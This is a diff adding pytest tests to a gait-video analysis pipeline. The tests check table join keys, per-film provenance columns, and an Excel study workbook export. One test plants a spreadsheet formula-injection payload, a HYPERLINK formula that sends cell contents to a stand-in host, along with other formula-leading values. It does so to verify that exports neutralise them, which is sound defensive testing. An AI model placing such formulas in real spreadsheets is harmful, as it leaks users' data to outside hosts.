@@ -14,6 +14,7 @@ from pathlib import Path
 
 import fsspec
 import numpy as np
+import openpyxl
 import pandas as pd
 import pytest
 
@@ -162,6 +163,91 @@ def test_every_column_of_every_table_is_in_the_dictionary():
     assert signs["manifest_side"] == ("", "the manifest's column side, as it stands there")
     row = table("summary.csv")[0]
     assert (row["subject"], row["manifest_side"], row["note"], row["side"]) == ("S1", "left", "first", "left")
+
+
+def test_rows_have_keys_that_join_the_tables_and_outlast_names_places_and_limits():
+    batches.write(Path("in"), a="fine 1", b="fine 2", copy="fine 1")
+    run("in")
+    cycles, summary = table("cycles.csv"), table("summary.csv")
+    for rows in (cycles, summary):
+        assert len({row["key"] for row in rows}) == len(rows)
+        assert {row["key"].partition(":")[0] for row in rows} == {row["film_key"] for row in rows}
+    assert {row["film_key"] for row in cycles} == {row["film_key"] for row in summary}
+    first = {row["video"]: row["film_key"] for row in summary}
+    assert first["in/copy.mp4"] == f"{first['in/a.mp4']}-2"
+    assert first["in/a.mp4"] != first["in/b.mp4"]
+    a, copy = (next(row for row in summary if row["video"] == f"in/{name}.mp4") for name in ("a", "copy"))
+    assert a["film_sha256"] == copy["film_sha256"] != ""
+    # Elsewhere, called otherwise, and held against other limits.
+    batches.write(Path("moved"), other="fine 2")
+    changed = parse_limits(shipped_limits_text().replace("knee_over_toe,leg,,", "knee_over_toe,leg,-9,"), "mine.csv")
+    run("moved", out="again", limits=changed)
+    assert {row["film_key"] for row in table("summary.csv", "again")} == {first["in/b.mp4"]}
+
+
+def test_tables_tell_how_each_film_was_made():
+    batches.write(Path("in"), a="fine")
+    result = run("in")["in/a.mp4"].result
+    for name in ("cycles.csv", "summary.csv"):
+        row = table(name)[0]
+        assert row["film_sha256"] == result.source.sha256
+        assert (row["camera_facing"], row["camera_yaw_deg"], row["camera_yaw_se_deg"]) == ("front", "1.0", "2.0")
+        assert (row["rate_hz"], row["analyzed_rate_hz"]) == ("29.97", "0.538")
+        assert (row["model"], row["version"], row["camera_pitch_deg"]) == ("heavy", "0.1.0", "")
+
+
+INJECTION = '=HYPERLINK("http://x/?"&A1)'
+
+
+def test_the_study_workbook_holds_the_tables_with_numbers_as_numbers_and_no_formula():
+    batches.write(Path("in"), a="fine", c="bad")
+    head = "path,subject,pain,code,=1+1"
+    quoted = INJECTION.replace('"', '""')
+    Path("list.csv").write_text(f'{head}\nin/a.mp4,"{quoted}",-3,007,@SUM(1)\nin/c.mp4,S2,4,-x,+1\n')
+    run("list.csv")
+    book = openpyxl.load_workbook("out/study.xlsx")
+    assert book.sheetnames == ["summary", "cycles", "occasions", "failures", "columns"]
+    kinds = {(row["table"], row["column"]): row["unit"] for row in table("columns.csv")}
+    for sheet in book:
+        rows = list(sheet.iter_rows())
+        plain = table(f"{sheet.title}.csv")
+        assert (len(rows), sheet.freeze_panes) == (len(plain) + 1, "A2")
+        # A text's apostrophe is CSV's alone.
+        names = [f"'{cell.value}" if cell.value == "=1+1" else cell.value for cell in rows[0]]
+        assert names == [column for name, column in kinds if name == f"{sheet.title}.csv"]
+        assert all(cell.comment.text for cell in rows[0])
+        assert {cell.data_type for row in rows for cell in row} <= {"s", "n", "b", "inlineStr"}
+        for row, told in zip(rows[1:], plain, strict=True):
+            for name, cell, text in zip(names, row, told.values(), strict=True):
+                if kinds[f"{sheet.title}.csv", name] or name in ("n", "index", "pain", "recognised_probability"):
+                    assert cell.value is None or cell.data_type == "n", (sheet.title, name)
+                if cell.data_type == "n":
+                    assert (cell.value is None and not text) or float(text) == cell.value
+                elif cell.data_type == "b":
+                    assert str(cell.value).lower() == text
+                else:
+                    assert text in (cell.value, f"'{cell.value}")
+    row = dict(zip([cell.value for cell in book["summary"][1]], book["summary"][2], strict=True))
+    assert row["subject"].value == INJECTION
+    assert (row["pain"].value, row["code"].value, row["=1+1"].value) == (-3, "007", "@SUM(1)")
+    assert row["differ"].data_type in ("b", "n")
+    # In CSV such text has an apostrophe before it, and numbers have none.
+    told = table("summary.csv")[0]
+    assert (told["subject"], told["pain"], told["'=1+1"]) == (f"'{INJECTION}", "-3", "'@SUM(1)")
+    cells = [cell for name in sorted(NAMES) if name.endswith(".csv") for cell in cells_of(Path("out") / name)]
+    assert not [cell for cell in cells if cell[:1] in tuple("=+@\t\r") or (cell[:1] == "-" and not is_number(cell))]
+
+
+def cells_of(path):
+    return [cell for row in csv.reader(io.StringIO(path.read_text())) for cell in row]
+
+
+def is_number(cell):
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
 
 
 def test_videos_of_one_occasion_are_judged_as_one():
